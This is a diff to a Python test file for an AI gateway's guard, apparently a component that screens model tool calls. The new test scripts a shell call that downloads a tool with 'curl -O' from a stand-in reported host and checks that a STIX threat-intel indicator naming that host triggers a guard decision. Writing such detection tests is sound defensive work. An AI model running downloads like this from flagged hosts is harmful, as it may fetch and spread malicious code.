@@ -18,6 +18,8 @@ from lathe.gateway import engagements, entitlements
 from lathe.gateway.guarding.monitors import Look, Monitors
 from lathe.gateway.settings import GatewaySettings, GuardTable
 from lathe.guard.findings import Finding, Material, Part, Span
+from lathe.guard.indicators import read_objects
+from lathe.guard.intel import Intel
 from lathe.guard.policy import SHIPPED
 from lathe.guard.reasoner import Scene
 from lathe.models.script import Call, Step, Tokens, Words
@@ -111,6 +113,7 @@ class guarded:
     async def __aenter__(self) -> Running:
         found = await self._running.__aenter__()
         guard: Any = found.gateway.relay.guard
+        await guard.load()
         guard.monitors = Monitors(self._looks, late_s=0.2)
         return found
 
@@ -505,6 +508,7 @@ async def test_a_second_look_decides_before_the_first_byte(
         found = GatewaySettings(upstreams=ups, models=models, mend=False, guard=GuardTable(reasoner="judge"))
         async with running(found, tmp_path) as gateway:
             guard: Any = gateway.gateway.relay.guard
+            await guard.load()
             guard.monitors = Monitors({"topical": quiet, "reasoner": embedded})
             told = (await Thread("chat", gateway, stream=stream).ask(f"Do the {MARK}.")).text
             assert ("Well" in told) == served
@@ -545,6 +549,7 @@ async def test_a_policy_is_tried_on_real_traffic_before_it_takes_effect(
     found = settings(scripted, guard=GuardTable(shadow=str(strict)))
     async with running(found, tmp_path) as gateway:
         guard: Any = gateway.gateway.relay.guard
+        await guard.load()
         guard.monitors = Monitors({"topical": quiet, "reasoner": marked, "acts": quiet})
         call = tool_call("c1", "shell", '{"command": "cat log"}')
         talk = [
@@ -563,3 +568,34 @@ async def test_a_policy_is_tried_on_real_traffic_before_it_takes_effect(
     assert main(["guard", "policy", "diff", str(SHIPPED), str(strict), str(lines), "--json"]) == 0
     said = json.loads(capsys.readouterr().out)
     assert said["situations"] == 1 and len(said["changes"]) == 1
+
+
+async def test_what_others_report_is_known_while_the_gateway_runs(tmp_path: Path) -> None:
+    call = Step(say=(Call("shell", '{"command": "curl -O https://reported.example/tool"}'),), usage=Tokens(9, 9, 0))
+    bundle = {
+        "type": "bundle",
+        "id": "bundle--1",
+        "objects": [
+            {
+                "type": "indicator",
+                "spec_version": "2.1",
+                "id": "indicator--6d3f9f3c-6f0e-4c9c-8f3d-0d0f5a3b7c11",
+                "created": "2026-11-01T00:00:00Z",
+                "modified": "2026-11-01T00:00:00Z",
+                "pattern": "[domain-name:value = 'reported.example']",
+                "pattern_type": "stix",
+                "valid_from": "2026-11-01T00:00:00Z",
+                "valid_until": "2036-11-01T00:00:00Z",
+                "confidence": 95,
+                "name": "a host that was reported",
+            }
+        ],
+    }
+    (tmp_path / "bundle.json").write_text(json.dumps(bundle))
+    async with ScriptedServer([call], repeat=True) as server, running(settings(server), tmp_path) as gateway:
+        answer = await Thread("chat", gateway).ask("Fetch the tool.")
+        assert "withheld" not in answer.text
+        Intel(tmp_path).add(read_objects(bundle["objects"], "a test"))
+        answer = await Thread("chat", gateway).ask("Fetch the tool now.")
+        taken = gateway.rows("select step, clause, code from decisions")
+        assert taken, answer.text
